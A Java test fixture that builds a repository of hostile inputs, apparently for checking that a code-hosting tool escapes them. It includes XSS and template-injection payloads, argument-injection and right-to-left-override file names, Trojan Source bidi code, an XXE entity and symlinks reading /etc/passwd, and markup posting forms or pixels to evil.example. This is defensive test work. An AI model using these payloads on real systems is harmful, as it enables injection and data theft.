package starforge.proof;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.util.Arrays;
import java.util.List;

/**
 * What somebody sends who wants to do harm. Whatever becomes markup shows as an element {@code <harm>} or an attribute
 * {@code onharm}; what is evaluated shows as {@link #EVALUATED}.
 */
final class Hostile {
    /** The sum that a template engine would write in the place of {@link #FORMULA}. */
    static final String EVALUATED = "54[,.\u00a0\u202f]?173[,.\u00a0\u202f]?879";

    static final String FORMULA = "${54173878+1}";
    static final String ELEMENT = "\"'><harm onharm=1>";
    static final String SCRIPT = "</title></textarea></script><script>harm()</script>";
    static final String ATTRIBUTE = "\" onharm=\"1\" x='";
    static final String TURNED = "exe\u202etxt.js";
    static final String TEXT = ELEMENT + SCRIPT + FORMULA + "<#assign x=1>[=54173878+1]\u202e";

    /** For forms: all of it but the turned letters, which descriptions may have. */
    static final String TYPED = TEXT.replace("\u202e", "");

    static final List<String> FILE_NAMES = List.of(
            "-h",
            "--exec=touch x",
            "a b",
            "100%",
            "%2e%2e",
            "%00",
            "q?x=1&y=2",
            "a#b",
            "a;jsessionid=1",
            "a+b",
            "a&amp;b",
            "back\\slash",
            "'single'",
            ELEMENT,
            SCRIPT.replace('/', '|'),
            FORMULA,
            "line\nbreak",
            "carriage\rreturn",
            "tab\tstop",
            "bell\u0007",
            TURNED,
            "zero\u200bwidth",
            "...",
            "CON",
            "trailing.",
            " lead",
            "f",
            "Gr\u00fc\u00dfe",
            "\ud83d\udca9",
            "x".repeat(250));

    /** Names that Git allows for branches and tags, without a hyphen at the start, which no push may bring. */
    static final List<String> REF_NAMES = List.of(
            "b\"'><harm-onharm=1>",
            "<script>harm()</script>",
            "${54173878+1}",
            "exe\u202etxt",
            "%2e%2e",
            "100%",
            "a#b",
            "a&amp;b",
            "a;b",
            "v1.0",
            "feature/f/x",
            "deep/er/and/deep.er",
            "heads/main",
            "tree/main",
            "x.y/z",
            "0123456789012345678901234567890123456789",
            "Gr\u00fc\u00dfe",
            "y".repeat(200));

    static final String MARKDOWN = "# " + ELEMENT + "\n\n" + SCRIPT + "\n\n"
            + "[a](javascript:harm()) [b](data:text/html,<harm>) [c](vbscript:harm()) [d](java\tscript:harm())\n"
            + "<svg onload=harm()><harm></svg> <math><harm></math> <style>*{display:none}</style> <base href=//evil.example>\n"
            + "<form action=//evil.example><input name=csrf_token></form> <meta http-equiv=refresh content=0;url=//evil.example>\n"
            + "<a id=main name=csrf_token onharm=1>x</a> <iframe src=javascript:harm()></iframe> <img src=x onerror=harm()>\n"
            + "![pixel](https://evil.example/pixel.png) ![here](../../../../../etc/passwd) [up](../../../../settings)\n"
            + "[page](/logout) [missing](no/such/file.md) [anchor](#nowhere)\n\n" + FORMULA + " \u202e\n\n"
            + "[".repeat(2_000) + ">".repeat(2_000) + "*".repeat(2_000) + "\n\n"
            + ("|" + "a|".repeat(60) + "\n").repeat(1) + "|" + "-|".repeat(60) + "\n";

    static final String SVG =
            "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"harm()\"><script>harm()</script></svg>";

    private Hostile() {}

    /** Files whose contents are chosen to do harm. */
    static void addContents(Chronicle past) {
        past.file("README.md", MARKDOWN)
                .file(
                        "docs/README.rst",
                        "Title\n=====\n\n.. raw:: html\n\n   " + ELEMENT + "\n\n.. include:: /etc/passwd\n")
                .file("page.html", "<!doctype html>" + TEXT + MARKDOWN)
                .file("page.xhtml", "<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>harm()</script></html>")
                .file("pic.svg", SVG)
                .file("feed.xml", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;" + SCRIPT + "</x>")
                .file("doc.pdf", "%PDF-1.4\n" + SCRIPT)
                .file("code.js", "harm() // " + TEXT)
                .file("style.css", "*{background:url(//evil.example)}")
                .file("fake.png", SVG)
                .file("data.json", "{\"a\":\"" + SCRIPT + "\"}")
                .file("crlf.txt", "one\r\ntwo\rthree\u2028four\r\n" + TEXT)
                .file("trojan.c", "if (user) /* \u202e\u2066 // end \u2069 */ admin();\n")
                .file("empty", "")
                .file("no-end", "no line end")
                .file("lines.txt", "\n".repeat(30_000))
                .file("deep/" + "d/".repeat(60) + "bottom.txt", TEXT)
                .link("to-passwd", "/etc/passwd")
                .link("to-nowhere", "../../../../" + ELEMENT)
                .link("to-itself", "to-itself")
                .executable("run.sh", "#!/bin/sh\n# " + TEXT)
                .submodule("module" + ELEMENT, "1234567890123456789012345678901234567890")
                .file(".gitmodules", "[submodule \"m\"]\n\tpath = m\n\turl = javascript:harm()\n");
        addBytes(past);
    }

    private static void addBytes(Chronicle past) {
        byte[] invalid = (TEXT + "\u00ff\u00fe\u0080" + SCRIPT).getBytes(ISO_8859_1);
        byte[] binary = new byte[5_000];
        new java.util.Random(1).nextBytes(binary);
        past.file("invalid.txt".getBytes(UTF_8), invalid)
                .file("inv\u00e4lid-\u00ff.txt".getBytes(ISO_8859_1), invalid)
                .file("utf16.txt".getBytes(UTF_8), (TEXT + "\n").getBytes(UTF_16))
                .file("bom.txt".getBytes(UTF_8), ("\ufeff" + TEXT).getBytes(UTF_8))
                .file("binary.bin".getBytes(UTF_8), binary);
    }

    /** One line of so many bytes. */
    static byte[] line(int bytes) {
        byte[] line = new byte[bytes];
        Arrays.fill(line, (byte) '<');
        return line;
    }
}
